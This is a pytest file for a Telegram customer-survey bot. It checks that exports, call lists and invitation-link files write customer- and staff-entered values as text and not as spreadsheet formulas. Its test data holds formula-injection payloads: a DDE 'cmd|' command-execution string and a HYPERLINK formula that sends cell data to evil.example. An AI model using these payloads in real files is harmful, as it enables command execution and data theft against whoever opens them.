"""Formula injection: whatever a customer, an import or staff typed reaches every file a
person opens (exports, the call list, invitation links) as text, never as a formula."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from tests.conftest import App

# What a spreadsheet takes for the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?c="&A1,"Подробнее")'
# (order_no, customer_name, phone, car, advisor, telegram id): each free-text and imported
# column carries each trigger somewhere.
ROWS = [
    ("=1+1", "=cmd|' /C calc'!A0", "+79120000001", HYPERLINK, "@Смирнов", "5001"),
    ("+ZN-2", "+Иван", "+79120000002", "-Kia Rio", "=Кузнецов", ""),
    ("-ZN-3", "-Анна", "+79120000003", "@Lada", "+Петров", ""),
    ("@ZN-4", "@Олег", "+79120000004", "+Skoda", "-Сидоров", ""),
]


def visits_csv() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(
        ["order_no", "visit_date", "customer_name", "phone", "car", "advisor", "telegram_user_id"]
    )
    for order_no, name, phone, car, advisor, user_id in ROWS:
        writer.writerow([order_no, "2026-10-19", name, phone, car, advisor, user_id])
    return buffer.getvalue().encode()


def xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every cell of every sheet; a formula has type "f"."""
    book = load_workbook(io.BytesIO(data))
    return [
        (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_xlsx_is_text(data: bytes, expected: Iterable[str]) -> None:
    cells = xlsx_cells(data)
    assert [c for c in cells if c[0] == "f"] == [], "a cell became a formula"
    strings = {value for kind, value in cells if kind == "s"}
    missing = set(expected) - strings
    assert not missing, f"planted values not kept as text: {missing}"


def assert_csv_is_text(data: str, expected: Iterable[str]) -> None:
    # Files for people use ";" (Russian Excel), the links for tools a comma.
    header = data.split("\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    cells = [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_TRIGGERS)] == []
    missing = {f"'{value}" for value in expected} - set(cells)
    assert not missing, f"planted values not written as text: {missing}"


async def test_chat_exports_and_the_call_list_write_planted_formulas_as_text(app: App) -> None:
    admin = app.member(1, "Руководитель")
    await admin.send_update({"document": app.telegram.upload(visits_csv(), "visits.csv")})
    assert "Новых: 4" in admin.last["text"]

    # The one customer with Telegram answers and plants a formula in the comment.
    customer = app.customer(5001)
    survey = await app.survey("=1+1")
    await customer.send(f"/start {survey.token}")
    await customer.click("Начать опрос")
    for _ in range(12):
        await customer.click(customer.buttons()[0])
    await customer.send(HYPERLINK.replace("evil", "evil2"))
    await customer.click(customer.buttons()[-1])

    manager = app.member(2, "Менеджер")
    await manager.send("/export all")
    # The answers sheet has the started survey; the advisors sheet its advisor.
    answered = {"=1+1", HYPERLINK, "@Смирнов", HYPERLINK.replace("evil", "evil2")}
    assert_xlsx_is_text(app.telegram.files[manager.last["document"]["file_id"]], answered)

    await manager.send("/export all csv")
    data = app.telegram.files[manager.last["document"]["file_id"]].decode("utf-8-sig")
    assert_csv_is_text(data, answered)

    # The call list: the three customers without Telegram (their invitations skipped).
    app.clock.advance(hours=2)
    await app.services.sender.run_once(app.bot)
    await manager.send("/calllist")
    await manager.click("Весь список файлом")
    calls = app.telegram.files[manager.last["document"]["file_id"]]
    assert_xlsx_is_text(calls, {value for row in ROWS[1:] for value in row[:4]})


def test_command_line_files_write_planted_formulas_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("BOT_TOKEN", "TELEGRAM_API_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    monkeypatch.setenv("BOT_USERNAME", "followup_demo_bot")
    (tmp_path / "visits.csv").write_bytes(visits_csv())
    assert main(["import-visits", "visits.csv"]) == 0
    assert main(["invite-links", "--out", "links.csv"]) == 0
    linked = {value for row in ROWS for value in row[:5]}
    assert_csv_is_text((tmp_path / "links.csv").read_text(encoding="utf-8-sig"), linked)
    # Every survey started and then expired unfinished: each visit is a row of the answers
    # export and of the call list.
    with sqlite3.connect(tmp_path / "cli.db") as db:
        db.execute("UPDATE surveys SET status = 'expired', started_at = '2026-10-20 10:00'")

    exported = {value for row in ROWS for value in (row[0], row[3], row[4])}
    assert main(["export", "--period", "all", "--out", "answers.xlsx"]) == 0
    assert_xlsx_is_text((tmp_path / "answers.xlsx").read_bytes(), exported)
    assert main(["export", "--period", "all", "--out", "answers.csv"]) == 0
    assert_csv_is_text((tmp_path / "answers.csv").read_text(encoding="utf-8-sig"), exported)

    called = {value for row in ROWS for value in row[:4]}
    for out in ("calls.csv", "calls.xlsx"):
        assert main(["call-list", "--out", out]) == 0
    assert_csv_is_text((tmp_path / "calls.csv").read_text(encoding="utf-8-sig"), called)
    assert_xlsx_is_text((tmp_path / "calls.xlsx").read_bytes(), called)
